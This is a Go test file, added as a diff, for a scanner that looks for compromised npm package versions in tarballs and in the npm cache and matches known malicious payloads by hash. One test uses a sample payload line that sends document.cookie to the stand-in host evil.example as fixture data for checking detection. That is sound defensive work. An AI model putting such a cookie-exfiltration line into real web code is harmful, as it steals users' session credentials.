@@ -0,0 +1,174 @@
+package main
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"reflect"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// writeTarball writes a gzipped tar of files, in order, to path
+func writeTarball(t *testing.T, path string, files [][2]string) {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	archive := tar.NewWriter(gz)
+	for _, file := range files {
+		header := &tar.Header{Name: file[0], Mode: 0o644, Size: int64(len(file[1])), Typeflag: tar.TypeReg}
+		if strings.HasSuffix(file[0], "/") {
+			header.Typeflag, header.Size = tar.TypeDir, 0
+		}
+		if err := archive.WriteHeader(header); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := archive.Write([]byte(file[1])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := archive.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestScanTarball(t *testing.T) {
+	setTestIOCs(t,
+		CompromisedPackage{Name: "chalk", Versions: []string{"5.6.1"}},
+		CompromisedPackage{Name: "@ctrl/tinycolor", Versions: []string{"4.1.1"}},
+	)
+	dir := t.TempDir()
+	tests := []struct {
+		name      string
+		files     [][2]string
+		isTarball bool
+		want      string // "<type> <name>@<version> (<location>)"
+	}{
+		// The file name says nothing; the package.json inside decides
+		{"vendor/left-pad-1.0.0.tgz", [][2]string{
+			{"package/", ""},
+			{"package/index.js", "module.exports = {}"},
+			{"package/package.json", `{"name": "chalk", "version": "5.6.1"}`},
+		}, true, "tarball chalk@5.6.1 (package/package.json)"},
+		// GitHub tarballs wrap the package in another folder, and "./"
+		// prefixes are cleaned
+		{"dist/tinycolor.tar.gz", [][2]string{
+			{"./tinycolor-4.1.1/package.json", `{"name": "@ctrl/tinycolor", "version": "4.1.1"}`},
+		}, true, "tarball @ctrl/tinycolor@4.1.1 (tinycolor-4.1.1/package.json)"},
+		// A bundled dependency's package.json is not the package's own
+		{"bundled.tgz", [][2]string{
+			{"package/node_modules/chalk/package.json", `{"name": "chalk", "version": "5.6.1"}`},
+			{"package/package.json", `{"name": "app", "version": "1.0.0"}`},
+		}, true, ""},
+		{"chalk-5.6.1.tgz", [][2]string{
+			{"package/package.json", `{"name": "chalk", "version": "5.3.0"}`},
+		}, true, ""},
+		{"no-manifest.tgz", [][2]string{
+			{"package/index.js", "module.exports = {}"},
+			{"package/package.json", `{"version": "1.0.0"}`},
+		}, false, ""},
+	}
+	for _, tt := range tests {
+		path := filepath.Join(dir, filepath.FromSlash(tt.name))
+		writeTarball(t, path, tt.files)
+		var got []string
+		isTarball := scanTarball(path, "tarball", func(f Finding) {
+			got = append(got, f.Type+" "+f.Package+"@"+f.Version+" ("+f.Location+")")
+		}, false)
+		if isTarball != tt.isTarball || strings.Join(got, "; ") != tt.want {
+			t.Errorf("%s: got %q, %v, want %q, %v", tt.name, got, isTarball, tt.want, tt.isTarball)
+		}
+	}
+
+	// Files that are not gzip archives fall back to the other checks
+	for name, content := range map[string]string{"plain.tgz": "chalk@5.6.1", "empty.tgz": ""} {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if scanTarball(path, "tarball", func(f Finding) { t.Errorf("%s: unexpected finding %+v", name, f) }, false) {
+			t.Errorf("%s read as a package tarball", name)
+		}
+	}
+}
+
+func TestScanTarballPayloads(t *testing.T) {
+	setTestIOCs(t)
+	payload := "fetch('https://evil.example/steal?' + document.cookie)\n"
+	sum := sha256.Sum256([]byte(payload))
+	saved := knownPayloads
+	knownPayloads = newPayloadIndex([]PayloadIOC{
+		{SHA256: hex.EncodeToString(sum[:]), FileName: "bundle.js", Description: "test drainer"},
+	})
+	t.Cleanup(func() { knownPayloads = saved })
+
+	// The manifest comes after the payload, and a same-named file with
+	// other content is not reported
+	path := filepath.Join(t.TempDir(), "tinycolor-4.1.2.tgz")
+	writeTarball(t, path, [][2]string{
+		{"package/bundle.js", payload},
+		{"package/dist/bundle.js", "module.exports = {}"},
+		{"package/package.json", `{"name": "@ctrl/tinycolor", "version": "4.1.2"}`},
+	})
+	var got []string
+	scanTarball(path, "tarball", func(f Finding) {
+		got = append(got, f.Type+" "+f.Package+" "+f.Location+" "+f.Payload.Description)
+	}, false)
+	want := []string{"payload @ctrl/tinycolor package/bundle.js test drainer"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+func TestScanCacheDirTarballs(t *testing.T) {
+	setTestIOCs(t, CompromisedPackage{Name: "chalk", Versions: []string{"5.6.1"}})
+	cacheDir := t.TempDir()
+	manifest := [][2]string{{"package/package.json", `{"name": "chalk", "version": "5.6.1"}`}}
+	// npm's content-addressed blobs have no extension, and other cached
+	// tarballs are read whatever they are called
+	writeTarball(t, filepath.Join(cacheDir, "_cacache", "content-v2", "sha512", "ab", "cd", "ef0123"), manifest)
+	writeTarball(t, filepath.Join(cacheDir, "other", "renamed.tgz"), manifest)
+
+	var got []string
+	scanCacheDir(cacheDir, func(f Finding) {
+		rel, _ := filepath.Rel(cacheDir, f.File)
+		got = append(got, f.Type+" "+f.Package+"@"+f.Version+" "+filepath.ToSlash(rel))
+	}, false)
+	sort.Strings(got)
+	want := []string{
+		"cache chalk@5.6.1 _cacache/content-v2/sha512/ab/cd/ef0123",
+		"cache chalk@5.6.1 other/renamed.tgz",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+	}
+}
+
+func TestIsTarballName(t *testing.T) {
+	for name, want := range map[string]bool{
+		"chalk-5.6.1.tgz": true,
+		"CHALK.TGZ":       true,
+		"src.tar.gz":      true,
+		"chalk.tar":       false,
+		"tgz":             false,
+		"chalk.zip":       false,
+	} {
+		if got := isTarballName(name); got != want {
+			t.Errorf("isTarballName(%q) = %v, want %v", name, got, want)
+		}
+	}
+}